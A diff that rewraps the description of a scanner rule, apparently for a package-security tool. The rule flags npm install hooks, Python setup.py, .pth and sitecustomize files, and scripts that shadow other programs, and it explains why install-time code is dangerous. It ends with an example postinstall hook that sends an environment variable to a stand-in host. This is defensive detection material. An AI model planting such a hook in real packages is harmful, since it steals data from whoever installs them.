@@ -2,17 +2,19 @@
 
 **What it looks for.**
 
-- npm: the hooks `preinstall`, `install` and `postinstall`, `prepare` where the package comes from git, and the
-  `node-gyp rebuild` that npm adds by itself where a `binding.gyp` lies in the root. The command is shown, and
-  the script that it starts is read: one that downloads and starts something, runs decoded text or code from
-  the command line is critical; known builders of native code are low, known developer helpers only noted.
+- npm: the hooks `preinstall`, `install` and `postinstall`, `prepare` where the package comes from git,
+  and the `node-gyp rebuild` that npm adds by itself where a `binding.gyp` lies in the root. The command
+  is shown, and the script that it starts is read: one that downloads and starts something, runs decoded
+  text or code from the command line is critical; known builders of native code are low, known developer
+  helpers only noted.
 - Python: a `setup.py` that does more than describe the package (it runs when there is no wheel), a build
-  backend that lies in the package itself, and `.pth` files, `sitecustomize` and `usercustomize`, which every
-  start of that Python runs, whether or not the package is used.
+  backend that lies in the package itself, and `.pth` files, `sitecustomize` and `usercustomize`, which
+  every start of that Python runs, whether or not the package is used.
 - Either: a script that is installed under the name of another program, such as `git` or `python`.
 
-**Why it is bad.** What runs at installation runs before anybody could look at the server's tools, with the
-rights of the person who installs, and usually without being seen. Most thefts in package indexes start here.
+**Why it is bad.** What runs at installation runs before anybody could look at the server's tools, with
+the rights of the person who installs, and usually without being seen. Most thefts in package indexes
+start here.
 
 **Example.** `"postinstall": "node -e \"fetch('https://exfil.invalid/' + process.env.USER)\""`
 
